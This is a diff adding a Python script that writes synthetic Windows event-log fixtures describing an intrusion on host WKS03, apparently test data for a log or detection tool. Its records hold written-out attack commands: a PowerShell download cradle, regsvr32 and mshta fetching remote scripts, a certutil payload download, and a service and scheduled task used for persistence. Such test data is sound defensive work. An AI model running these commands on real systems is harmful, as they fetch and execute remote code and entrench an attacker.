@@ -1,0 +1,218 @@
+#!/usr/bin/env python3
+# testdata/make-wks03.py -- wrote testdata/spec/wks03-*.spec: host WKS03,
+# an intrusion told through the execution sources beside process starts.
+# The specs are the source of truth and may be edited by hand; rerun only
+# to rebuild them:  python3 testdata/make-wks03.py testdata/spec && make testdata
+#
+# 2024-03-07 on WKS03.corp.local (user CORP\bob):
+#  09:01 powershell download cradle (4104, one part), a staged script
+#        logged in three parts out of order (4104 1/3, 3/3, 2/3) that
+#        starts regsvr32 /i:http (Sysmon 1, parent powershell);
+#        a block of two parts of which only the first was logged;
+#  09:05 certutil -urlcache: its DNS query (Sysmon 22) and the file it
+#        wrote (Sysmon 11);
+#  09:10 a service installed (4697) whose rundll32 action services.exe
+#        starts; 09:12 another (7045, %COMSPEC% /c mshta http...);
+#  09:15 schtasks registers a task (4698, ClientProcessId) whose action,
+#        regsvr32 /i:http, the Schedule service starts at 09:20.
+import os, sys
+
+OUT = sys.argv[1]
+HOST = 'WKS03.corp.local'
+DAY = '2024-03-07'
+SID_BOB = 'S-1-5-21-1111111111-2222222222-3333333333-1205'
+
+
+def guid(n):
+    return '{C3D4E5F6-0307-65E9-0000-%012X}' % n
+
+
+def sysmon(recid, t, eid, data):
+    lines = ['record', 'provider sysmon', 'eventid %d' % eid,
+             'time %sT%sZ' % (DAY, t), 'recordid %d' % recid, 'pid 2904',
+             'tid 3100', 'channel Microsoft-Windows-Sysmon/Operational',
+             'computer ' + HOST, 'user S-1-5-18']
+    lines += ['data %s=%s' % kv for kv in data]
+    return '\n'.join(lines) + '\n'
+
+
+def proc(recid, t, g, pid, image, cmd, parent, user='CORP\\bob'):
+    pg, ppid, pimage, pcmd = parent
+    return sysmon(recid, t, 1, [
+        ('RuleName', '-'), ('UtcTime', '%s %s' % (DAY, t[:12])),
+        ('ProcessGuid', guid(g)), ('ProcessId', str(pid)),
+        ('Image', image), ('FileVersion', '-'), ('Description', '-'),
+        ('Product', '-'), ('Company', '-'),
+        ('OriginalFileName', os.path.basename(image.replace('\\', '/'))),
+        ('CommandLine', cmd), ('CurrentDirectory', 'C:\\Users\\bob\\'),
+        ('User', user),
+        ('LogonGuid', '{C3D4E5F6-1E2F-65E9-E195-050000000000}'),
+        ('LogonId', '0x6b2f1'), ('TerminalSessionId', '1'),
+        ('IntegrityLevel', 'Medium'), ('Hashes', 'SHA256=%064X' % g),
+        ('ParentProcessGuid', guid(pg)), ('ParentProcessId', str(ppid)),
+        ('ParentImage', pimage), ('ParentCommandLine', pcmd),
+        ('ParentUser', user)])
+
+
+SYS32 = 'C:\\Windows\\System32\\'
+EXPLORER = (1, 3300, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE')
+PS_CMD = ('powershell.exe -nop -w hidden -c "IEX (New-Object '
+          'Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"')
+PS = (2, 4410, SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', PS_CMD)
+SERVICES = (3, 680, SYS32 + 'services.exe', SYS32 + 'services.exe')
+SVCHOST = (4, 1240, SYS32 + 'svchost.exe', SYS32 + 'svchost.exe -k netsvcs -p -s Schedule')
+
+
+def write(name, text):
+    with open(os.path.join(OUT, name), 'w') as f:
+        f.write(text)
+
+
+# ---- Sysmon: processes, DNS, file ----
+s = ['# wks03-sysmon.spec -- Sysmon/Operational of WKS03: the processes of an\n'
+     '# intrusion told by script blocks, services and tasks, with certutil\'s\n'
+     '# DNS query (22) and file drop (11).  Written by testdata/make-wks03.py.\n'
+     'output wks03/wks03-sysmon.evtx\n\n']
+r = 9001
+s.append(proc(r, '09:00:00.1000000', EXPLORER[0], EXPLORER[1], EXPLORER[2],
+              EXPLORER[3], (9, 3200, SYS32 + 'userinit.exe',
+                            SYS32 + 'userinit.exe')))
+r += 1
+s.append(proc(r, '09:01:00.2000000', PS[0], PS[1], PS[2], PS[3], EXPLORER))
+r += 1
+s.append(sysmon(r, '09:01:00.9000000', 22, [
+    ('RuleName', '-'), ('UtcTime', DAY + ' 09:01:00.900'),
+    ('ProcessGuid', guid(PS[0])), ('ProcessId', str(PS[1])),
+    ('QueryName', 'stage.example.test'), ('QueryStatus', '0'),
+    ('QueryResults', '::ffff:203.0.113.9;'), ('Image', PS[2]),
+    ('User', 'CORP\\bob')]))
+r += 1
+REG_CMD = ('"C:\\Windows\\System32\\regsvr32.exe" /s /n /u '
+           '/i:http://203.0.113.9/p.sct scrobj.dll')
+s.append(proc(r, '09:01:10.3000000', 5, 4520, SYS32 + 'regsvr32.exe',
+              REG_CMD, PS))
+r += 1
+CU_CMD = ('certutil.exe -urlcache -split -f http://dl.example.test/p.exe '
+          'C:\\Users\\Public\\p.exe')
+s.append(proc(r, '09:05:00.4000000', 6, 4630, SYS32 + 'certutil.exe', CU_CMD,
+              PS))
+r += 1
+s.append(sysmon(r, '09:05:00.6000000', 22, [
+    ('RuleName', '-'), ('UtcTime', DAY + ' 09:05:00.600'),
+    ('ProcessGuid', guid(6)), ('ProcessId', '4630'),
+    ('QueryName', 'dl.example.test'), ('QueryStatus', '0'),
+    ('QueryResults', '::ffff:203.0.113.10;'),
+    ('Image', SYS32 + 'certutil.exe'), ('User', 'CORP\\bob')]))
+r += 1
+s.append(sysmon(r, '09:05:01.7000000', 11, [
+    ('RuleName', '-'), ('UtcTime', DAY + ' 09:05:01.700'),
+    ('ProcessGuid', guid(6)), ('ProcessId', '4630'),
+    ('Image', SYS32 + 'certutil.exe'),
+    ('TargetFilename', 'C:\\Users\\Public\\p.exe'),
+    ('CreationUtcTime', DAY + ' 09:05:01.700'), ('User', 'CORP\\bob')]))
+r += 1
+s.append(proc(r, '09:10:03.1000000', 7, 4740, SYS32 + 'rundll32.exe',
+              'C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\u.dll,Start',
+              SERVICES, 'NT AUTHORITY\\SYSTEM'))
+r += 1
+s.append(proc(r, '09:12:00.1000000', 8, 4850, SYS32 + 'cmd.exe',
+              'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\System32\\mshta.exe '
+              'http://203.0.113.9/s.hta', SERVICES, 'NT AUTHORITY\\SYSTEM'))
+r += 1
+s.append(proc(r, '09:15:00.1000000', 10, 5120, SYS32 + 'schtasks.exe',
+              'schtasks.exe /create /tn \\Updater /xml C:\\Users\\Public\\t.xml',
+              PS))
+r += 1
+s.append(proc(r, '09:20:00.1000000', 11, 5230, SYS32 + 'regsvr32.exe',
+              'C:\\Windows\\System32\\regsvr32.exe /s /u '
+              '/i:http://203.0.113.9/t.sct scrobj.dll', SVCHOST,
+              'CORP\\bob'))
+write('wks03-sysmon.spec', '\n'.join(s))
+
+# ---- PowerShell/Operational: script blocks ----
+def sb(recid, t, num, tot, text, bid):
+    return '\n'.join([
+        'record', 'provider powershell', 'eventid 4104',
+        'time %sT%sZ' % (DAY, t), 'recordid %d' % recid, 'pid 4410',
+        'tid 4412', 'channel Microsoft-Windows-PowerShell/Operational',
+        'computer ' + HOST, 'user ' + SID_BOB,
+        'data MessageNumber=%d' % num, 'data MessageTotal=%d' % tot,
+        'edata ScriptBlockText=' + text, 'data ScriptBlockId=' + bid,
+        'data Path=']) + '\n'
+
+
+B1 = '{7A1C0D2E-0307-4C55-9D1A-000000000001}'
+B2 = '{7A1C0D2E-0307-4C55-9D1A-000000000002}'
+B3 = '{7A1C0D2E-0307-4C55-9D1A-000000000003}'
+p = ['# wks03-powershell.spec -- PowerShell/Operational of WKS03: script\n'
+     '# blocks (4104): a cradle in one part, a staged script in three parts\n'
+     '# logged out of order, a block whose second part is lost.\n'
+     '# Written by testdata/make-wks03.py.\n'
+     'output wks03/wks03-powershell.evtx\n\n']
+p.append(sb(201, '09:01:00.5000000', 1, 1,
+            "IEX (New-Object Net.WebClient).DownloadString("
+            "'http://203.0.113.9/a.ps1')", B1))
+p.append(sb(202, '09:01:02.1000000', 1, 3,
+            'function Invoke-Stage {\\r\\n  $u = \'http://203.0.113.9/p.sct\'\\r\\n', B2))
+p.append(sb(203, '09:01:02.1000000', 3, 3,
+            '}\\r\\nInvoke-Stage\\r\\n', B2))
+p.append(sb(204, '09:01:02.1000000', 2, 3,
+            '  Start-Process regsvr32.exe -ArgumentList "/s /n /u /i:$u '
+            'scrobj.dll"\\r\\n', B2))
+p.append(sb(205, '09:04:59.1000000', 1, 2,
+            "& certutil.exe -urlcache -split -f http://dl.example.test/p.exe "
+            "C:\\\\Users\\\\Public\\\\p.exe; ", B3))
+write('wks03-powershell.spec', '\n'.join(p))
+
+# ---- Security: 4697 service, 4698 task ----
+TASK_XML = ('<?xml version="1.0" encoding="UTF-16"?>'
+            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/'
+            '2004/02/mit/task"><RegistrationInfo><Author>CORP\\bob</Author>'
+            '</RegistrationInfo><Triggers><LogonTrigger><Enabled>true'
+            '</Enabled></LogonTrigger></Triggers><Principals><Principal '
+            'id="Author"><UserId>' + SID_BOB + '</UserId></Principal>'
+            '</Principals><Actions Context="Author"><Exec><Command>'
+            'C:\\Windows\\System32\\regsvr32.exe</Command><Arguments>/s /u '
+            '/i:http://203.0.113.9/t.sct scrobj.dll</Arguments></Exec>'
+            '</Actions></Task>')
+sec = ['# wks03-security.spec -- Security of WKS03: a service installed (4697)\n'
+       '# and a scheduled task created (4698, with the task XML and the\n'
+       '# registering process).  Written by testdata/make-wks03.py.\n'
+       'output wks03/wks03-security.evtx\n\n']
+sec.append('\n'.join([
+    'record', 'provider security', 'eventid 4697',
+    'time %sT09:10:01.0000000Z' % DAY, 'recordid 7701', 'pid 680',
+    'tid 712', 'channel Security', 'computer ' + HOST, 'user -',
+    'data SubjectUserSid=' + SID_BOB, 'data SubjectUserName=bob',
+    'data SubjectDomainName=CORP', 'data SubjectLogonId=0x6b2f1',
+    'data ServiceName=WinUpdSvc',
+    'data ServiceFileName=C:\\Windows\\System32\\rundll32.exe '
+    'C:\\Users\\Public\\u.dll,Start',
+    'data ServiceType=0x10', 'data ServiceStartType=2',
+    'data ServiceAccount=LocalSystem']) + '\n')
+sec.append('\n'.join([
+    'record', 'provider security', 'eventid 4698',
+    'time %sT09:15:00.6000000Z' % DAY, 'recordid 7702', 'pid 680',
+    'tid 716', 'channel Security', 'computer ' + HOST, 'user -',
+    'data SubjectUserSid=' + SID_BOB, 'data SubjectUserName=bob',
+    'data SubjectDomainName=CORP', 'data SubjectLogonId=0x6b2f1',
+    'data TaskName=\\Updater', 'data TaskContent=' + TASK_XML,
+    'data ClientProcessStartKey=2533274790396001',
+    'data ClientProcessId=5120', 'data ParentProcessId=4410',
+    'data RpcCallClientLocality=0', 'data FQDN=' + HOST]) + '\n')
+write('wks03-security.spec', '\n'.join(sec))
+
+# ---- System: 7045 ----
+write('wks03-system.spec', '\n'.join([
+    '# wks03-system.spec -- System of WKS03: a service installed (7045)\n'
+    '# whose action runs mshta through %COMSPEC%.\n'
+    '# Written by testdata/make-wks03.py.\n'
+    'output wks03/wks03-system.evtx\n',
+    'record', 'provider scm', 'eventid 7045', 'qualifiers 16384',
+    'time %sT09:11:58.0000000Z' % DAY, 'recordid 3101', 'pid 680',
+    'tid 2120', 'channel System', 'computer ' + HOST, 'user ' + SID_BOB,
+    'data ServiceName=PrintHelper',
+    'data ImagePath=%COMSPEC% /c C:\\Windows\\System32\\mshta.exe '
+    'http://203.0.113.9/s.hta',
+    'data ServiceType=user mode service', 'data StartType=demand start',
+    'data AccountName=LocalSystem']) + '\n')
